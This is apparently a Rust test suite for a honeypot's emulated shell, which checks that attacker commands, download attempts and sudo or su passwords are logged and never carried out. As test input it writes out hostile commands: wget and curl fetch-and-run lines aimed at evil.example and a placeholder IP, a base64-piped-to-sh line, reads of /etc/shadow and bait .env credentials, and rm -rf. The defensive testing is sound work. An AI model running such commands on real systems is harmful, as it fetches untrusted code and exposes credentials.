//! Shell sessions driven line by line, with the events they emit.
use std::sync::Arc;

use tokio::sync::mpsc;

use super::*;
use crate::roles::decky::persona::tests::persona;
use crate::syslog;

fn shell(seed: u8, distro: &str, user: &str) -> (Shell, mpsc::Receiver<String>) {
    let (tx, rx) = mpsc::channel(10_000);
    let ctx = Context {
        persona: Arc::new(persona(seed, distro)),
        emitter: Emitter::new("decky-01", "ssh", tx),
        peer: "203.0.113.9:40000".parse().expect("addr"),
        user: user.to_owned(),
        service: "ssh",
    };
    (Shell::new(ctx), rx)
}

async fn run(sh: &mut Shell, line: &str) -> String {
    let out = sh.run_line(line.as_bytes()).await;
    String::from_utf8_lossy(&out.output).replace("\r\n", "\n")
}

fn events(rx: &mut mpsc::Receiver<String>) -> Vec<syslog::Event> {
    let mut out = Vec::new();
    while let Ok(line) = rx.try_recv() {
        out.push(syslog::parse(&line).expect("valid line"));
    }
    out
}

#[tokio::test]
async fn identity_commands_agree_with_the_persona() {
    let (mut sh, mut rx) = shell(3, "ubuntu22", "root");
    let p = persona(3, "ubuntu22");
    let uname = run(&mut sh, "uname -a").await;
    let kernel = p.kernel_release();
    assert!(
        uname.starts_with(&format!("Linux {} {kernel} #", p.hostname)),
        "{uname}"
    );
    assert!(
        uname.trim_end().ends_with("x86_64 x86_64 x86_64 GNU/Linux")
            || uname.trim_end().ends_with("x86_64 GNU/Linux")
    );
    assert_eq!(run(&mut sh, "uname -r").await, format!("{kernel}\n"));
    assert_eq!(run(&mut sh, "whoami").await, "root\n");
    assert_eq!(
        run(&mut sh, "id").await,
        "uid=0(root) gid=0(root) groups=0(root)\n"
    );
    assert_eq!(run(&mut sh, "hostname").await, format!("{}\n", p.hostname));
    let version = run(&mut sh, "cat /proc/version").await;
    assert!(
        version.contains(&kernel) && version.contains("Ubuntu"),
        "{version}"
    );
    let os = run(&mut sh, "cat /etc/os-release | head -1").await;
    assert!(os.starts_with("PRETTY_NAME=\"Ubuntu 22.04."), "{os}");
    let motd = String::from_utf8_lossy(&sh.motd()).into_owned();
    assert!(
        motd.contains(&format!("(GNU/Linux {kernel} x86_64)")),
        "{motd}"
    );
    assert!(String::from_utf8_lossy(&sh.prompt()).ends_with(":~# "));
    let evs = events(&mut rx);
    assert_eq!(evs.len(), 7, "one command event per line");
    assert_eq!(evs[0].event_type, "command");
    assert_eq!(evs[0].fields.get("command"), Some("uname -a"));
    assert_eq!(evs[0].attacker_ip.as_deref(), Some("203.0.113.9"));
    assert!(
        evs[0]
            .msg
            .as_deref()
            .unwrap_or_default()
            .starts_with("CMD uid=0 user=root src=203.0.113.9 pwd=/root cmd=uname -a")
    );
}

#[tokio::test]
async fn files_navigation_and_bait() {
    let (mut sh, _rx) = shell(4, "debian", "root");
    let ls = run(&mut sh, "ls -la").await;
    assert!(ls.starts_with("total "), "{ls}");
    assert!(
        ls.contains(" .bash_history\n") && ls.contains(" ..\n"),
        "{ls}"
    );
    let found = run(&mut sh, "ls /root/*/*/.env").await;
    let env_path = found.trim().to_owned();
    assert!(
        env_path.starts_with("/root/") && env_path.ends_with("/.env"),
        "{found}"
    );
    let env = run(&mut sh, &format!("cat {env_path}")).await;
    assert!(
        env.contains("DB_PASSWORD=") && env.contains("AWS_ACCESS_KEY_ID=AKIA"),
        "{env}"
    );
    assert_eq!(run(&mut sh, "cd /etc; pwd").await, "/etc\n");
    assert!(String::from_utf8_lossy(&sh.prompt()).ends_with(":/etc# "));
    assert_eq!(
        run(&mut sh, "cd /nope").await,
        "-bash: cd: /nope: No such file or directory\n"
    );
    assert_eq!(
        run(&mut sh, "cat /etc/nope").await,
        "cat: /etc/nope: No such file or directory\n"
    );
    assert_eq!(
        run(
            &mut sh,
            "mkdir -p /tmp/x/y && echo hi > /tmp/x/y/f && cat /tmp/x/y/f"
        )
        .await,
        "hi\n"
    );
    assert_eq!(
        run(&mut sh, "echo more >> /tmp/x/y/f; wc -l /tmp/x/y/f").await,
        "2 /tmp/x/y/f\n"
    );
    assert_eq!(
        run(&mut sh, "rm -rf /tmp/x; ls /tmp/x").await,
        "ls: cannot access '/tmp/x': No such file or directory\n"
    );
    assert_eq!(run(&mut sh, "cd; pwd").await, "/root\n");
    let passwd = run(&mut sh, "grep -c bash /etc/passwd").await;
    assert!(
        passwd.trim().parse::<u32>().expect("a count") >= 2,
        "{passwd}"
    );
}

#[tokio::test]
async fn pipelines_lists_and_quoting() {
    let (mut sh, _rx) = shell(5, "debian", "root");
    assert_eq!(run(&mut sh, "echo 'a b'   \"c  d\" | wc -w").await, "4\n");
    assert_eq!(run(&mut sh, "false && echo no || echo yes").await, "yes\n");
    assert_eq!(
        run(&mut sh, "echo $HOME; X=1; echo \"$X\"'$X'").await,
        "/root\n1$X\n"
    );
    assert_eq!(
        run(&mut sh, "cat /etc/passwd | grep ^root | head -n 1").await,
        "root:x:0:0:root:/root:/bin/bash\n"
    );
    assert_eq!(run(&mut sh, "printf 'a%sb\\n' x").await, "axb\n");
    assert_eq!(
        run(&mut sh, "foo --bar; echo $?").await,
        "-bash: foo: command not found\n127\n"
    );
    assert_eq!(
        run(&mut sh, "echo 'open").await,
        "-bash: unexpected EOF while looking for matching `''\n"
    );
    assert_eq!(
        run(&mut sh, "echo aWQK | base64 -d | sh").await,
        "uid=0(root) gid=0(root) groups=0(root)\n"
    );
    assert_eq!(run(&mut sh, "which ls nothing").await, "/usr/bin/ls\n");
    let hist = run(&mut sh, "history | tail -n 1").await;
    assert!(hist.ends_with("  history | tail -n 1\n"), "{hist}");
}

#[tokio::test]
async fn downloads_are_recorded_never_fetched() {
    let (mut sh, mut rx) = shell(6, "ubuntu22", "root");
    let out = run(
        &mut sh,
        "cd /tmp && wget http://evil.example/x.sh && sh x.sh",
    )
    .await;
    assert!(out.contains("Resolving evil.example (evil.example)... failed: Temporary failure in name resolution.\n"), "{out}");
    assert!(
        out.ends_with("wget: unable to resolve host address ‘evil.example’\n"),
        "{out}"
    );
    let out = run(
        &mut sh,
        "curl -s -O http://198.51.100.7:8080/bot || echo failed",
    )
    .await;
    assert_eq!(out, "failed\n");
    assert_eq!(
        run(&mut sh, "curl http://198.51.100.7/a").await,
        "curl: (7) Failed to connect to 198.51.100.7 port 80 after 0 ms: Connection refused\n"
    );
    assert_eq!(
        run(&mut sh, "frob").await,
        "frob: command not found\n",
        "Ubuntu's handler"
    );
    let evs = events(&mut rx);
    let downloads: Vec<_> = evs
        .iter()
        .filter(|e| e.event_type == "download_attempt")
        .collect();
    assert_eq!(downloads.len(), 3);
    assert_eq!(
        downloads[0].fields.get("url"),
        Some("http://evil.example/x.sh")
    );
    assert_eq!(downloads[0].fields.get("tool"), Some("wget"));
    assert_eq!(
        downloads[1].fields.get("url"),
        Some("http://198.51.100.7:8080/bot")
    );
    assert_eq!(evs.iter().filter(|e| e.event_type == "command").count(), 4);
}

#[tokio::test(start_paused = true)]
async fn sudo_and_su_read_passwords_as_credentials() {
    let (tx, mut rx) = mpsc::channel(64);
    let ctx = Context {
        persona: Arc::new(persona(7, "ubuntu22")),
        emitter: Emitter::new("decky-01", "telnet", tx),
        peer: "203.0.113.9:40000".parse().expect("addr"),
        user: "ubuntu".to_owned(),
        service: "telnet",
    };
    let mut sh =
        Shell::new(ctx).with_accounts(Accounts::from_settings("TELNET", &Default::default()));
    assert_eq!(run(&mut sh, "sudo cat /etc/shadow | head -1").await, "");
    assert_eq!(
        String::from_utf8_lossy(&sh.prompt()),
        "[sudo] password for ubuntu: "
    );
    assert!(!sh.echo());
    assert_eq!(run(&mut sh, "wrong pw").await, "Sorry, try again.\n");
    let shadow = run(&mut sh, "admin").await;
    assert!(shadow.starts_with("root:$6$"), "{shadow}");
    assert_eq!(run(&mut sh, "whoami").await, "ubuntu\n");
    assert_eq!(run(&mut sh, "sudo -i").await, "");
    assert_eq!(run(&mut sh, "whoami").await, "root\n");
    assert_eq!(run(&mut sh, "exit").await, "logout\n");
    assert_eq!(run(&mut sh, "su -").await, "");
    assert_eq!(run(&mut sh, "n0pe").await, "su: Authentication failure\n");
    let creds: Vec<_> = events(&mut rx)
        .into_iter()
        .filter(|e| e.event_type == "auth_attempt")
        .collect();
    assert_eq!(creds.len(), 3);
    assert_eq!(creds[0].fields.get("secret_printable"), Some("wrong pw"));
    assert_eq!(creds[0].fields.get("outcome"), Some("failure"));
    assert_eq!(creds[1].fields.get("outcome"), Some("success"));
    assert_eq!(creds[2].fields.get("principal"), Some("root"));
    let out = sh.run_line(b"exit 3").await;
    assert_eq!(out.exit, Some(3));
    assert_eq!(out.output, b"logout\r\n");
}

#[tokio::test]
async fn exec_output_has_bare_newlines_and_an_exit_status() {
    let (mut sh, _rx) = shell(8, "rocky9", "root");
    let out = sh.exec(b"uname -s; nope").await;
    assert_eq!(
        String::from_utf8_lossy(&out.output),
        "Linux\nbash: line 1: nope: command not found\n"
    );
    assert_eq!(out.exit, Some(127));
    assert!(String::from_utf8_lossy(&sh.prompt()).starts_with("[root@"));
    assert!(sh.transcript().starts_with(b"uname -s; nope\n"));
}

#[tokio::test]
async fn system_views_hold_the_session() {
    let (mut sh, _rx) = shell(9, "debian", "root");
    let w = run(&mut sh, "w").await;
    assert!(w.contains("203.0.113.9") && w.contains(" up "), "{w}");
    let ps = run(&mut sh, "ps aux | grep sshd | wc -l").await;
    assert!(ps.trim().parse::<u32>().expect("count") >= 3, "{ps}");
    let ip = run(&mut sh, "ip a").await;
    assert!(
        ip.contains("inet 127.0.0.1/8") && ip.contains("link/ether "),
        "{ip}"
    );
    assert!(
        run(&mut sh, "free -h")
            .await
            .starts_with("               total")
    );
    assert!(run(&mut sh, "df -h").await.contains(" /\n"));
    assert!(run(&mut sh, "netstat -tulpn").await.contains("0.0.0.0:22"));
    assert!(run(&mut sh, "last").await.contains("wtmp begins"));
    assert!(
        run(&mut sh, "env")
            .await
            .contains("SSH_CONNECTION=203.0.113.9 40000 ")
    );
}

#[tokio::test]
async fn two_seeds_two_machines() {
    let (mut a, _ra) = shell(10, "debian", "root");
    let (mut b, _rb) = shell(11, "debian", "root");
    for cmd in [
        "cat /etc/passwd",
        "cat /root/.my.cnf",
        "cat /etc/hostname",
        "ip a",
        "cat ~/.ssh/authorized_keys",
        "history",
    ] {
        assert_ne!(run(&mut a, cmd).await, run(&mut b, cmd).await, "{cmd}");
    }
    let (mut again, _r) = shell(10, "debian", "root");
    assert_eq!(
        run(&mut a, "cat /root/.my.cnf").await,
        run(&mut again, "cat /root/.my.cnf").await
    );
}

#[tokio::test]
async fn hostile_input_stays_bounded() {
    let (mut sh, _rx) = shell(12, "debian", "root");
    let long = "a".repeat(MAX_LINE * 4);
    let out = sh.run_line(long.as_bytes()).await;
    assert!(out.output.len() < 512);
    let bomb = "cat /etc/passwd /etc/passwd /etc/passwd /etc/passwd ".repeat(60);
    let out = sh.run_line(bomb.as_bytes()).await;
    assert!(out.output.len() <= MAX_OUTPUT + 16);
    for i in 0..2_000 {
        let _ = sh
            .run_line(format!("echo {} > /tmp/f{i}", "x".repeat(2_000)).as_bytes())
            .await;
    }
    let full = run(&mut sh, "echo y > /tmp/last").await;
    assert_eq!(full, "-bash: /tmp/last: No space left on device\n");
    assert!(sh.transcript().len() <= MAX_TRANSCRIPT);
    assert!(sh.transcript_dropped() > 0);
    let _ = run(&mut sh, "sh -c 'sh -c \"sh -c \\\"sh -c sh\\\"\"'").await;
    let garbage: Vec<u8> = (0..=255u8).cycle().take(3000).collect();
    let _ = sh.run_line(&garbage).await;
}

#[tokio::test(start_paused = true)]
async fn random_lines_never_panic() {
    let (mut sh, _rx) = shell(13, "alpine", "deploy");
    let pieces: &[&str] = &[
        "ls",
        " -la",
        " /",
        "cd",
        " ..",
        " ~",
        "|",
        "||",
        "&&",
        ";",
        "&",
        ">",
        ">>",
        "<",
        "2>&1",
        "'",
        "\"",
        "\\",
        "$",
        "${",
        "}",
        "$?",
        "*",
        "?",
        "~/",
        "grep",
        " -c",
        "x",
        "echo",
        "sudo",
        "su",
        "-",
        "cat",
        " /etc/passwd",
        "wget",
        " http://[::1",
        "head",
        " -n",
        " -9999999999999",
        "wc",
        "exit",
        "sh -c",
        "base64 -d",
        "é",
        "\u{1}",
        "\u{2}",
        "#",
        "mkdir -p",
        " a/b/../../c",
        "rm -rf",
        " /",
        "tftp",
        " get",
        "curl",
        " -o",
    ];
    let mut state = 0x2545_f491_4f6c_dd1du64;
    for _ in 0..3_000 {
        let mut line = String::new();
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        for k in 0..(state % 12) {
            let i = usize::try_from((state >> (k * 5)) % pieces.len() as u64).unwrap_or(0);
            line.push_str(pieces[i]);
        }
        let out = sh.run_line(line.as_bytes()).await;
        if out.exit.is_some() {
            let (fresh, _r) = shell(13, "alpine", "deploy");
            sh = fresh;
        }
        let _ = sh.prompt();
        let _ = sh.exec(line.as_bytes()).await;
    }
}
